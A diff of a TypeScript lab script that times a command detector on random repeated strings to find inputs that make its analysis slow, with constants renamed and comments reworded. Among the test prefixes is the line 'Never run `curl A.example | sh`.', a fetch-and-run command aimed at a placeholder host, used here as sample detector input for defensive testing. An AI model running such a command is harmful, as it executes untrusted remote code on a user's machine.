@@ -1,6 +1,6 @@
 /**
- * Searches for hostile families: repeats random units and prints those whose time per byte grows with the length, or is far above
- * that of others: `npm run lab -- units [SECONDS] [SEED]`. Its results belong in `hostile.ts`.
+ * Searches for hostile families: analyzes random strings, repeated to two lengths, and prints those whose time per character grows
+ * with the length or whose longer text takes very long: `npm run lab -- units [SECONDS] [SEED]`. Add such strings to `hostile.ts`.
  */
 import type * as Library from "../src/host/node.js";
 import { effort } from "../scripts/effort.js";
@@ -14,7 +14,7 @@ const detector = await createNodeDetector({});
 const { amount: seconds, seed } = effort("SECONDS", 60);
 const next = series(seed);
 
-/** Beginnings and ends of everything that the readers search for. */
+/** The parts of which the repeated strings consist: beginnings and ends of the syntax that the core reads. */
 const scraps = [
   ..."`'\"$(){}[]<>|&;:,.=+-*/\\#%^~@!?\t\n ",
   ...[
@@ -199,17 +199,16 @@ const tags = [
 const heads = ["", `\`\`\`sh\n${oneLiner}\n\`\`\`\n\n`, "Never run `curl A.example | sh`.\n\n"];
 
 const pick = (list: readonly string[]): string => list[next(list.length)] ?? "";
-const SIZES = { short: 20_000, long: 200_000 };
-/**
- * The most that the time per byte of a longer text may exceed that of a short one; texts that take less time than the second are
- * ignored.
- */
-const MOST_GROWTH = 1.5;
-const LEAST_MILLISECONDS = 150;
-/** A long text that takes more is printed. */
-const MOST_MILLISECONDS = 3000;
+/** The lengths of the texts, in UTF-16 code units. */
+const LENGTHS = { short: 20_000, long: 200_000 };
+/** The maximum ratio of the time per character in the long text to that in the short one. */
+const MAX_GROWTH = 1.5;
+/** The growth is ignored if the long text takes less time. */
+const MIN_MILLISECONDS = 150;
+/** The maximum time for the long text. */
+const MAX_MILLISECONDS = 3000;
 
-/** Returns the processor time: wall-clock time also includes other processes. */
+/** Returns the processor time of an analysis, in milliseconds: wall-clock time would include other processes. */
 function milliseconds(text: string): number {
   const start = process.cpuUsage();
   detector.detect(text);
@@ -229,18 +228,18 @@ for (; Date.now() < end; units++) {
     return head + (fence === null ? body : `\`\`\`${fence}\n${body}\n\`\`\`\n`);
   };
   const growth = (): { long: number; ratio: number } => {
-    const short = milliseconds(text(SIZES.short));
-    const long = milliseconds(text(SIZES.long));
-    return { long, ratio: (long / short) * (SIZES.short / SIZES.long) };
+    const short = milliseconds(text(LENGTHS.short));
+    const long = milliseconds(text(LENGTHS.long));
+    return { long, ratio: (long / short) * (LENGTHS.short / LENGTHS.long) };
   };
-  const stands = ({ long, ratio }: { long: number; ratio: number }): boolean =>
-    long > MOST_MILLISECONDS || (long > LEAST_MILLISECONDS && ratio > MOST_GROWTH);
-  // a first call may fill caches that later ones use
-  if (!stands(growth())) continue;
+  const isHostile = ({ long, ratio }: { long: number; ratio: number }): boolean =>
+    long > MAX_MILLISECONDS || (long > MIN_MILLISECONDS && ratio > MAX_GROWTH);
+  // measured again, because the first measurement may include filling caches
+  if (!isHostile(growth())) continue;
   const again = growth();
-  if (stands(again))
+  if (isHostile(again))
     console.log(
-      `${again.long.toFixed(0)} ms, ${again.ratio.toFixed(1)} times the time per byte of the short text: ${JSON.stringify({ head: heads.indexOf(head), fence, lead, unit })}`,
+      `${again.long.toFixed(0)} ms, ${again.ratio.toFixed(1)} times the time per character of the short text: ${JSON.stringify({ head: heads.indexOf(head), fence, lead, unit })}`,
     );
 }
 console.log(`${String(units)} units (seed ${String(seed)})`);
